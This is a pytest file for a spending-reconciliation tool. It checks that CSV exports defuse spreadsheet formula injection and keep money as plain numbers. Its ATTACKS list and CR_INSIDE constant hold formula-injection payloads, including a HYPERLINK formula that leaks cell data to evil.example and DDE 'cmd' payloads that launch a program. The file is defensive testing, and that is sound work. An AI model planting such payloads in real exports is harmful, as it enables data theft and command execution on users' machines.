"""CSV exports open safely in a spreadsheet: findings.csv, `findings --format csv` and
`awards --format csv` show source and analyst text as text, never as a formula, and keep money as
plain numbers."""
from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timezone
from decimal import Decimal

import pytest
from typer.testing import CliRunner

from archive_testkit import full_name, make_zip, txn
from spendrecon.cli import app
from spendrecon.config import load_settings
from spendrecon.csv_cells import csv_cell, neutralise
from spendrecon.findings_query import FindingFilter, query_findings
from spendrecon.pipeline import plan_run
from spendrecon.report import write_report
from warehouse.annotations import Annotation, append_log

# What a hostile program title, recipient or note may start with (OWASP's list, and its variants).
ATTACKS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"see memo")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
]
# A bare CR ends a row for a spreadsheet: unquoted, it would start a row whose first cell is a formula.
CR_INSIDE = 'see memo\r=HYPERLINK("https://evil.example/","click")'
MONEY = re.compile(r"^(-?\d+\.\d{2})?$")  # exact, unquoted, or empty for NULL
NOW = datetime(2026, 11, 27, 12, 0, tzinfo=timezone.utc)


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert csv_cell(text) == neutralise(text) == "'" + text


@pytest.mark.parametrize("value, cell", [
    ("97.102", "97.102"), ("Case Management Pilot Program", "Case Management Pilot Program"), ("a=b", "a=b"),
    ("", ""), (None, ""), (Decimal("-699500.00"), "-699500.00"), (Decimal("15000000.00"), "15000000.00"),
    (-5, "-5"), (2022, "2022"), (datetime(2026, 1, 2, 3, 4, 5), "2026-01-02T03:04:05"),
])
def test_numbers_stay_numbers_and_plain_text_stays_as_is(value, cell):
    assert csv_cell(value) == cell


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _assert_safe(text: str, notes: dict[tuple[str, str], str]) -> None:
    rows = _rows(text)
    # A reader that ends rows at every CR (as spreadsheets do) sees the same rows: each CR is quoted.
    assert len(_rows(text.replace("\r", "\n"))) == len(rows)
    by_key = {(r["program_number"], r["fiscal_year"]): r for r in rows}
    for key, cell in notes.items():
        assert by_key[key]["review_note"] == cell
    for r in rows:
        for column in ("sam_amount", "usaspending_amount", "difference"):
            assert MONEY.match(r[column]), (column, r[column])
        if r["rule_id"] == "amount_mismatch":
            # The message template below starts with {difference}: "-$1.00 ..." is text, and quoted.
            assert r["message"].startswith(("'-$", "$")), r["message"]
    assert any(r["difference"].startswith("-") for r in rows)  # a negative difference, unquoted
    assert any(r["message"].startswith("'-$") for r in rows)


def test_findings_csv_and_findings_format_csv_neutralise_text_and_keep_money_plain(run_flow, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "spendrecon.yaml").write_text(
        "fiscal_years: 2019-2023\n"
        "rules:\n  amount_mismatch: {message: '{difference} between SAM.gov and USAspending for {program_number}'}\n")
    settings = load_settings(None, environ={})
    run_flow(plan_run(settings, demo=True))
    open_findings = query_findings(settings.warehouse_path, FindingFilter())
    targets = list(dict.fromkeys((r["program_number"], r["fiscal_year"]) for r in open_findings))
    notes = {}
    for (program, year), (note, cell) in zip(targets, [*((a, "'" + a) for a in ATTACKS), (CR_INSIDE, CR_INSIDE)]):
        append_log(settings.annotations_path, Annotation(program, year, "disputed", note, NOW))
        notes[(program, str(year))] = cell
    run_flow(plan_run(settings, demo=True))  # the run mirrors the notes into the warehouse

    folder = write_report(settings.warehouse_path, settings.reports_path)
    with open(folder / "findings.csv", encoding="utf-8", newline="") as f:  # keep a CR inside a cell
        _assert_safe(f.read(), notes)

    shown = CliRunner().invoke(app, ["findings", "--format", "csv"])
    assert shown.exit_code == 0, shown.output
    _assert_safe(shown.stdout, notes)


def test_awards_format_csv_neutralises_recipients_and_descriptions(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    zip_path = make_zip(tmp_path, full_name(2023, "20240415"), [
        txn("T1", "97.102", "-7500000.00", recipient_name=ATTACKS[0], transaction_description=ATTACKS[3],
            prime_award_base_transaction_description=ATTACKS[2]),
        txn("T2", "97.102", "5000000.10", recipient_name="ACME COUNTY"),
    ])
    runner = CliRunner()
    ingested = runner.invoke(app, ["ingest-archive", "--no-flow", str(zip_path)])
    assert ingested.exit_code == 0, ingested.output

    shown = runner.invoke(app, ["awards", "--program", "97.102", "--fiscal-year", "2023", "--format", "csv"])
    assert shown.exit_code == 0, shown.output
    rows = {r["assistance_transaction_unique_key"]: r for r in _rows(shown.stdout)}
    hostile = rows["T1"]
    assert hostile["recipient_name"] == "'" + ATTACKS[0]
    assert hostile["transaction_description"] == "'" + ATTACKS[3]
    assert hostile["award_description"] == "'" + ATTACKS[2]
    assert hostile["federal_action_obligation"] == "-7500000.00"  # money: a plain number
    assert rows["T2"]["recipient_name"] == "ACME COUNTY"
    assert rows["T2"]["federal_action_obligation"] == "5000000.10"
